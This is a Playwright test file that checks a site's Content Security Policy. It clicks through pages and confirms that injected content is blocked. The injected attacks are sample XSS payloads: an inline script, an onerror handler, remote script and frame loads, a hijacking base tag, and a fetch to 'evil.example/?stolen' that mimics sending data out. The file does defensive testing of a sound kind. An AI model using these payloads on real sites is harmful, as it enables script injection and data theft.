import {createServer} from 'node:http';
import type {Page} from '@playwright/test';
import {freePort} from '../../scripts/freePort';
import {expect, routes, test} from './support';

/** What a page's policy blocks, and that it blocks nothing of the page itself. */
test.skip(Boolean(process.env.BASE_URL), 'another server is tested, not the build');
test.use({reducedMotion: 'reduce'});

type Violation = {directive: string; blocked: string; sample: string};

declare global {
  interface Window {
    violations: Violation[];
  }
}

/** Before anything of a page runs: a violation is an event, whether or not a browser also writes it to its console. */
const listen = (page: Page) =>
  page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.violations.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        sample: event.sample,
      }),
    );
  });

const violations = (page: Page) => page.evaluate(() => window.violations);

for (const {url} of routes) {
  test(`${url} is used without touching its policy`, async ({page}) => {
    await listen(page);
    const response = await page.goto(url);
    expect(response?.headers()['content-security-policy']).toContain("default-src 'none'");

    await test.step('menus', async () => {
      for (const button of await page.getByRole('banner').locator('button[aria-expanded]:visible').all()) {
        await button.click();
        await button.press('Escape');
      }
    });
    const main = page.getByRole('main');
    await test.step('filters and tabs', async () => {
      for (const tab of await main.getByRole('tab').all()) await tab.click();
      for (const slider of await main.getByRole('slider').all()) await slider.press('ArrowRight');
    });
    await test.step('accordions and disclosures', async () => {
      for (const button of await main.locator('button[aria-expanded]:visible').all()) await button.click();
    });
    await test.step('forms', async () => {
      for (const field of await main.getByRole('textbox').all()) await field.fill('raipur@example.com');
      const submit = main.locator('form [type="submit"]:visible');
      // What is filled in is no message yet: the form says so itself.
      if (await submit.count()) await submit.first().click();
    });
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    expect(await violations(page)).toEqual([]);
  });
}

test('following links of the site touches no policy either: the first page’s holds for all of them', async ({page}) => {
  await listen(page);
  await page.goto('/contact');
  for (const path of ['/pricing', '/products/skycart', '/']) {
    await page.locator(`a[href="${path}"]:visible`).first().click();
    await expect(page).toHaveURL(path);
    await page.getByRole('heading', {level: 1}).waitFor();
  }
  expect(await violations(page)).toEqual([]);
});

test.describe('whatever gets into a page from outside does nothing', () => {
  const attacks: [name: string, inject: () => void, directive: string][] = [
    [
      'an inline script',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.body.append(script);
      },
      'script-src-elem',
    ],
    [
      'an event handler in markup',
      () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/nope.png" onerror="document.title = \'taken over\'">',
        );
      },
      'script-src-attr',
    ],
    [
      'a script of another server',
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/script.js';
        document.body.append(script);
      },
      'script-src-elem',
    ],
    [
      'a style in markup',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">');
      },
      'style-src-attr',
    ],
    [
      'a frame',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
      },
      'frame-src',
    ],
    [
      'a form that posts elsewhere',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/" method="post"></form>');
        document.forms[document.forms.length - 1]?.submit();
      },
      'form-action',
    ],
    [
      'a base for every link',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
      'base-uri',
    ],
    [
      'a request to another server',
      () => {
        fetch('https://evil.example/?stolen').catch(() => {
          // The policy's doing: it is what the test waits for.
        });
      },
      'connect-src',
    ],
  ];

  for (const [name, inject, directive] of attacks) {
    test(name, async ({page, problems}) => {
      await listen(page);
      const reached: string[] = [];
      await page.route('https://evil.example/**', (route) => {
        reached.push(route.request().url());
        return route.abort();
      });
      await page.goto('/contact');
      await page.evaluate(inject);
      await expect
        .poll(async () => (await violations(page)).map((violation) => violation.directive))
        .toContain(directive);
      expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
      expect(page.url()).toMatch(/\/contact$/);
      expect(reached).toEqual([]);
      // The browser names what it blocked in its console.
      expect(problems.splice(0)).not.toEqual([]);
    });
  }

  test('another site that shows this one in a frame gets nothing of it', async ({page, baseURL, problems}) => {
    const other = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe src="${baseURL}/contact"></iframe>`);
    });
    const port = await freePort();
    await new Promise<void>((resolve) => other.listen(port, resolve));
    try {
      await page.goto(`http://localhost:${port}/`);
      await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    } finally {
      other.close();
      problems.splice(0);
    }
  });
});
